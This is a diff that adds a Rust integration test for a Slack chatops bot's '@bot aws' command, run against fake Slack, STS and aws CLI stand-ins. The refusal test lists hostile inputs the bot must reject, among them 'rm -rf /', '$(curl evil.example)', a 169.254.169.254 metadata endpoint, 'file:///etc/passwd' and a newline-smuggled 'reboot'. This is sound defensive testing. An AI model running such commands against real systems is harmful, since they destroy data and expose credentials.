@@ -1,0 +1,389 @@
+//! `@bot aws …` end to end: the bot in this process against the fake Slack, the fake STS and a fake `aws` executable (a script this test writes, which records its argv and environment and prints canned output). Covers the clean environment, refusals and channels, long output as a file, the timeout kill, a failure's stderr, a missing CLI, the audit trail, and credentials never leaking.
+
+mod support;
+
+use std::collections::BTreeSet;
+use std::path::{Path, PathBuf};
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use chatops_bot::store::aws_runs::{AwsRunLog, AwsRunOutcome};
+use chatops_bot::store::SqliteStore;
+use chatops_sandbox::slack::{envelopes, FakeSlack, Target};
+use chatops_sandbox::sts::FakeSts;
+use support::*;
+
+const SECOND: Duration = Duration::from_secs(1);
+const OPS: &str = "C0OPS00001";
+const EC2_ONLY: &str = "C0EC2ONLY1";
+const ELSEWHERE: &str = "C0RANDOM01";
+const ROLE: &str = "arn:aws:iam::123456789012:role/chatops-readonly";
+
+/// The fake `aws`: records `argv`, `env` and `pid` in `<records>/run-<pid>/`, then answers by
+/// service and operation.
+const FAKE_AWS: &str = r#"#!/bin/sh
+rec="RECORDS/run-$$"
+mkdir -p "$rec"
+printf '%s\n' "$@" > "$rec/argv"
+env > "$rec/env"
+echo $$ > "$rec/pid"
+case "$1 $2" in
+  "ec2 describe-instances")
+    printf '{"Reservations": [{"Instances": [{"InstanceId": "i-0abc123", "Tags": [{"Key": "Name", "Value": "<!channel> web"}]}]}]}\n' ;;
+  "ec2 describe-images")
+    head -c 2097152 /dev/zero | tr '\0' 'x' ;;
+  "ec2 describe-regions")
+    sleep 30 &
+    echo $! > "$rec/grandchild"
+    wait ;;
+  "ec2 describe-volumes")
+    echo "An error occurred (UnauthorizedOperation) when calling the DescribeVolumes operation: not authorized <!here>" >&2
+    exit 254 ;;
+  "ec2 describe-key-pairs")
+    printf '{"Leak": "%s %s %s"}\n' "$AWS_ACCESS_KEY_ID" "$AWS_SECRET_ACCESS_KEY" "$AWS_SESSION_TOKEN" ;;
+  *)
+    printf '{}\n' ;;
+esac
+"#;
+
+/// Everything a test needs: the fakes, the bot, where the fake `aws` records its runs, and
+/// the log lines the bot wrote.
+struct World {
+    slack: FakeSlack,
+    sts: FakeSts,
+    bot: RunningBot,
+    records: PathBuf,
+    _scripts: tempfile::TempDir,
+}
+
+fn logs() -> Arc<Mutex<Vec<u8>>> {
+    static LOGS: std::sync::OnceLock<Arc<Mutex<Vec<u8>>>> = std::sync::OnceLock::new();
+    LOGS.get_or_init(|| {
+        let logs = Arc::new(Mutex::new(Vec::new()));
+        let sink = logs.clone();
+        let writer = move || Writer(sink.clone());
+        let _ = tracing_subscriber::fmt()
+            .with_max_level(tracing::Level::TRACE)
+            .with_ansi(false)
+            .with_writer(writer)
+            .try_init();
+        logs
+    })
+    .clone()
+}
+
+struct Writer(Arc<Mutex<Vec<u8>>>);
+
+impl std::io::Write for Writer {
+    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+        self.0.lock().unwrap().extend_from_slice(buf);
+        Ok(buf.len())
+    }
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+async fn world(cli: Option<&str>) -> World {
+    logs();
+    let slack = fake_slack().await;
+    let sts = FakeSts::start().await.unwrap();
+    let scripts = tempfile::tempdir().unwrap();
+    let records = scripts.path().join("records");
+    std::fs::create_dir(&records).unwrap();
+    let script = scripts.path().join("aws");
+    std::fs::write(&script, FAKE_AWS.replace("RECORDS", &records.display().to_string())).unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let cli = cli.map_or_else(|| script.display().to_string(), str::to_owned);
+    let extra = format!(
+        r#"
+[aws]
+region = "eu-west-1"
+
+[aws.endpoints]
+sts = "{sts}"
+
+[aws_commands]
+role_arn = "{ROLE}"
+cli = "{cli}"
+timeout = "1s"
+
+[[aws_commands.channels]]
+channel = "{OPS}"
+
+[[aws_commands.channels]]
+channel = "{EC2_ONLY}"
+allow = ["ec2 describe-*"]
+"#,
+        sts = sts.endpoint_url()
+    );
+    let bot = RunningBot::start_with(&slack, 1, &extra).await;
+    slack.wait_for_connections(1, 10 * SECOND).await.unwrap();
+    World {
+        slack,
+        sts,
+        bot,
+        records,
+        _scripts: scripts,
+    }
+}
+
+impl World {
+    /// Mentions the bot with `aws <text>` and returns the first reply (in the thread, or
+    /// ephemeral) posted after it.
+    async fn ask(&self, channel: &str, text: &str) -> (String, chatops_sandbox::slack::ApiCall) {
+        let before = self.slack.calls().last().map_or(0, |c| c.seq);
+        let mention = envelopes::app_mention(channel, "U0ALICE", &format!("<@U0BOT> aws {text}"));
+        self.slack.send(Target::Any, mention).await.unwrap();
+        let deadline = tokio::time::Instant::now() + 10 * SECOND;
+        let reply = loop {
+            let found = self.slack.calls().into_iter().find(|c| {
+                c.seq > before
+                    && matches!(c.method.as_str(), "chat.postMessage" | "chat.postEphemeral")
+            });
+            if let Some(call) = found {
+                break call;
+            }
+            assert!(tokio::time::Instant::now() < deadline, "no reply to {text:?}");
+            tokio::time::sleep(Duration::from_millis(10)).await;
+        };
+        (reply.params.to_string(), reply)
+    }
+
+    /// The runs the fake `aws` recorded: (argv, environment, pid), oldest first.
+    fn runs(&self) -> Vec<(Vec<String>, Vec<(String, String)>, u32)> {
+        let mut dirs: Vec<PathBuf> = std::fs::read_dir(&self.records)
+            .unwrap()
+            .map(|e| e.unwrap().path())
+            .collect();
+        dirs.sort_by_key(|d| std::fs::metadata(d).unwrap().modified().unwrap());
+        dirs.iter()
+            .map(|dir| {
+                let read = |name: &str| std::fs::read_to_string(dir.join(name)).unwrap_or_default();
+                let argv = read("argv").lines().map(str::to_owned).collect();
+                let env = read("env")
+                    .lines()
+                    .filter_map(|l| l.split_once('='))
+                    .map(|(k, v)| (k.to_owned(), v.to_owned()))
+                    .collect();
+                (argv, env, read("pid").trim().parse().unwrap_or(0))
+            })
+            .collect()
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_command_runs_as_the_assumed_role_in_a_clean_environment() {
+    let w = world(None).await;
+    let (reply, call) = w
+        .ask(
+            OPS,
+            "ec2 describe-instances --region ap-northeast-2 --query 'Reservations[].Instances[?State.Name==`running`] | [0]'",
+        )
+        .await;
+    assert_eq!(call.method, "chat.postMessage", "{reply}");
+    assert!(call.params.get("thread_ts").is_some(), "in the thread: {reply}");
+    assert!(reply.contains("i-0abc123"), "the JSON is shown: {reply}");
+    assert!(reply.contains("```"), "in a code block: {reply}");
+    assert!(reply.contains("&lt;!channel&gt; web") && !reply.contains("<!channel>"), "inert: {reply}");
+
+    let runs = w.runs();
+    assert_eq!(runs.len(), 1);
+    let (argv, env, _) = &runs[0];
+    assert_eq!(
+        argv,
+        &[
+            "ec2",
+            "describe-instances",
+            "--query",
+            "Reservations[].Instances[?State.Name==`running`] | [0]",
+            "--output",
+            "json"
+        ]
+    );
+    let issued = w.sts.issued();
+    assert_eq!(issued.len(), 1);
+    let get = |key: &str| env.iter().find(|(k, _)| k == key).map(|(_, v)| v.as_str());
+    assert_eq!(get("AWS_ACCESS_KEY_ID"), Some(issued[0].access_key_id.as_str()));
+    assert_eq!(get("AWS_SECRET_ACCESS_KEY"), Some(issued[0].secret_access_key.as_str()));
+    assert_eq!(get("AWS_SESSION_TOKEN"), Some(issued[0].session_token.as_str()));
+    assert_eq!(get("AWS_REGION"), Some("ap-northeast-2"));
+    assert_eq!(get("AWS_DEFAULT_REGION"), Some("ap-northeast-2"));
+    assert_eq!(get("AWS_PAGER"), Some(""));
+    assert_eq!(get("AWS_CONFIG_FILE"), Some("/dev/null"));
+    assert_eq!(get("AWS_SHARED_CREDENTIALS_FILE"), Some("/dev/null"));
+    let allowed: BTreeSet<&str> = [
+        "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_REGION",
+        "AWS_DEFAULT_REGION", "AWS_PAGER", "AWS_CLI_AUTO_PROMPT", "AWS_CONFIG_FILE",
+        "AWS_SHARED_CREDENTIALS_FILE", "AWS_EC2_METADATA_DISABLED", "HOME", "TMPDIR", "PATH",
+        "LANG",
+        // Set by /bin/sh itself.
+        "PWD", "OLDPWD", "SHLVL", "_",
+    ]
+    .into();
+    let extra: Vec<&str> = env
+        .iter()
+        .map(|(k, _)| k.as_str())
+        .filter(|k| !allowed.contains(k))
+        .collect();
+    assert!(extra.is_empty(), "the child saw more than it should: {extra:?}");
+    // The bot's own credentials (support::aws_test_env: "test"/"test") signed AssumeRole and
+    // never reached the child.
+    assert!(env.iter().all(|(_, v)| v != "test"), "{env:?}");
+    let call = &w.sts.calls()[0];
+    assert_eq!(call.action, "AssumeRole");
+    assert_eq!(call.role_arn.as_deref(), Some(ROLE));
+    assert_eq!(call.session_name.as_deref(), Some("chatops-bot-U0ALICE"));
+    assert_eq!(call.signed_by.as_deref(), Some("test"));
+
+    // A second command reuses the cached credentials.
+    let (_, _) = w.ask(OPS, "ec2 describe-instances").await;
+    assert_eq!(w.sts.calls().len(), 1, "credentials are cached");
+    let (argv, env, _) = &w.runs()[1];
+    assert_eq!(argv, &["ec2", "describe-instances", "--output", "json"]);
+    assert!(env.contains(&("AWS_REGION".into(), "eu-west-1".into())), "the default region");
+
+    let (_, dir) = w.bot.stop_keeping_store().await;
+    let audit = audit_of(dir.path(), 10).await;
+    assert_eq!(audit.len(), 2);
+    assert_eq!(audit[1].user, "U0ALICE");
+    assert_eq!(audit[1].channel, OPS);
+    assert_eq!(audit[1].region.as_deref(), Some("ap-northeast-2"));
+    assert_eq!(audit[1].argv[..2], ["ec2", "describe-instances"]);
+    assert!(matches!(audit[1].outcome, AwsRunOutcome::Exited { exit_code: Some(0), .. }));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn refusals_and_channels_are_answered_privately_and_nothing_runs() {
+    let w = world(None).await;
+    let cases = [
+        (OPS, "ec2 describe-instances; rm -rf /", "`;` is not allowed"),
+        (OPS, "ec2 describe-instances --instance-ids $(curl evil.example)", "`$` is not allowed"),
+        (OPS, "ec2 describe-instances --filters `id`", "only a `--query` value may hold it"),
+        (OPS, "ec2 describe-instances --endpoint-url http://169.254.169.254", "`--endpoint-url` is not allowed"),
+        (OPS, "ec2 describe-instances --filters file:///etc/passwd", "`file://` and `fileb://` are not allowed"),
+        (OPS, "ec2 describe-instances > /tmp/x", "`&gt;` is not allowed"),
+        (OPS, "secretsmanager get-secret-value --secret-id prod/db", "never run from chat"),
+        (OPS, "ec2 terminate-instances --instance-ids i-1", "not allowed in this channel"),
+        (EC2_ONLY, "lambda list-functions", "allowed here: `ec2 describe-*`"),
+        (ELSEWHERE, "ec2 describe-instances", "not enabled in this channel"),
+    ];
+    for (channel, text, why) in cases {
+        let (reply, call) = w.ask(channel, text).await;
+        assert_eq!(call.method, "chat.postEphemeral", "{text}: {reply}");
+        assert!(reply.contains(why), "{text}: expected {why:?} in {reply}");
+    }
+    let ten_kb = "i".repeat(10 * 1024);
+    let (reply, _) = w.ask(OPS, &format!("ec2 describe-instances --instance-ids {ten_kb}")).await;
+    assert!(reply.contains("10240 bytes long"), "{reply}");
+    let (reply, _) = w.ask(OPS, "ec2 describe-instances --instance-ids \"i-1\nreboot\"").await;
+    assert!(reply.contains("U+000A"), "{reply}");
+    assert!(w.runs().is_empty(), "nothing ran: {:?}", w.runs());
+    assert!(w.sts.calls().is_empty(), "no role was assumed");
+
+    // The per-channel allowlist lets its own operations through.
+    let (reply, call) = w.ask(EC2_ONLY, "ec2 describe-instances").await;
+    assert_eq!(call.method, "chat.postMessage", "{reply}");
+    assert_eq!(w.runs().len(), 1);
+
+    let (_, dir) = w.bot.stop_keeping_store().await;
+    let audit = audit_of(dir.path(), 20).await;
+    assert_eq!(audit.len(), 13);
+    let refused = audit
+        .iter()
+        .filter(|r| matches!(r.outcome, AwsRunOutcome::Refused { .. }))
+        .count();
+    assert_eq!(refused, 12);
+    assert!(audit.iter().any(|r| r.channel == ELSEWHERE
+        && matches!(&r.outcome, AwsRunOutcome::Refused { kind, .. } if kind == "channel_not_enabled")));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn long_output_goes_to_a_file_slow_commands_are_killed_failures_show_stderr() {
+    let w = world(None).await;
+    let (reply, call) = w.ask(OPS, "ec2 describe-images").await;
+    assert_eq!(call.method, "chat.postMessage", "{reply}");
+    assert!(reply.contains("aws-ec2-describe-images.json") && reply.contains("cut at 1.0 MB"), "{reply}");
+    let uploads = w.slack.uploads();
+    assert_eq!(uploads.len(), 1);
+    assert_eq!(uploads[0].filename, "aws-ec2-describe-images.json");
+    assert_eq!(uploads[0].bytes.len(), 1024 * 1024, "stdout capped at 1 MB");
+    assert!(uploads[0].completed);
+    let shared = uploads[0].shared_in.as_ref().expect("shared");
+    assert_eq!(shared.channel, OPS);
+    assert!(shared.thread_ts.is_some(), "in the thread");
+
+    let (reply, _) = w.ask(OPS, "ec2 describe-regions").await;
+    assert!(reply.contains("Stopped after 1s"), "{reply}");
+    let run = w.records.join(format!("run-{}", w.runs()[1].2));
+    let grandchild: u32 = std::fs::read_to_string(run.join("grandchild")).unwrap().trim().parse().unwrap();
+    for pid in [w.runs()[1].2, grandchild] {
+        eventually(5 * SECOND, "the killed process group to be gone", || gone(pid)).await;
+    }
+
+    let (reply, _) = w.ask(OPS, "ec2 describe-volumes").await;
+    assert!(reply.contains("exit 254"), "{reply}");
+    assert!(reply.contains("UnauthorizedOperation") && reply.contains("&lt;!here&gt;"), "{reply}");
+    w.bot.stop().await.unwrap();
+}
+
+/// The newest `limit` audit entries of the store in `dir`.
+async fn audit_of(dir: &Path, limit: usize) -> Vec<chatops_bot::store::aws_runs::AwsRunRecord> {
+    let path = dir.join("bot.db");
+    chatops_bot::store::unblock(move || SqliteStore::open(&path)?.recent_aws_runs(limit))
+        .await
+        .unwrap()
+}
+
+/// No process `pid`, or only its zombie.
+fn gone(pid: u32) -> bool {
+    match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
+        Err(_) => true,
+        Ok(stat) => stat.rsplit(')').next().is_some_and(|rest| rest.trim_start().starts_with('Z')),
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_missing_cli_is_explained() {
+    let w = world(Some("/nonexistent/bin/aws")).await;
+    let (reply, _) = w.ask(OPS, "ec2 describe-instances").await;
+    assert!(reply.contains("not installed"), "{reply}");
+    assert!(reply.contains("getting-started-install.html"), "{reply}");
+    w.bot.stop().await.unwrap();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn credentials_never_reach_slack_the_logs_or_the_store() {
+    let w = world(None).await;
+    let (reply, _) = w.ask(OPS, "ec2 describe-key-pairs").await;
+    assert!(reply.contains("[redacted]"), "what the CLI printed of them is redacted: {reply}");
+    w.ask(OPS, "ec2 describe-instances").await;
+    w.ask(OPS, "ec2 describe-volumes").await;
+    let issued = w.sts.issued();
+    assert!(!issued.is_empty());
+    let slack_text: String = w.slack.calls().iter().map(|c| c.params.to_string()).collect();
+    let (_, dir) = w.bot.stop_keeping_store().await;
+    let store_bytes = read_all(dir.path());
+    let log_text = String::from_utf8_lossy(&logs().lock().unwrap()).into_owned();
+    assert!(log_text.contains("AWS CLI run."), "the audit line is logged");
+    for credentials in issued {
+        for secret in [credentials.access_key_id, credentials.secret_access_key, credentials.session_token] {
+            assert!(!slack_text.contains(&secret), "{secret} in Slack");
+            assert!(!log_text.contains(&secret), "{secret} in the logs");
+            assert!(!store_bytes.windows(secret.len()).any(|w| w == secret.as_bytes()), "{secret} in the store");
+        }
+    }
+}
+
+/// Every file under `dir` (the database, its WAL), concatenated.
+fn read_all(dir: &Path) -> Vec<u8> {
+    let mut bytes = Vec::new();
+    for entry in std::fs::read_dir(dir).unwrap() {
+        let path = entry.unwrap().path();
+        if path.is_file() {
+            bytes.extend(std::fs::read(path).unwrap());
+        }
+    }
+    bytes
+}
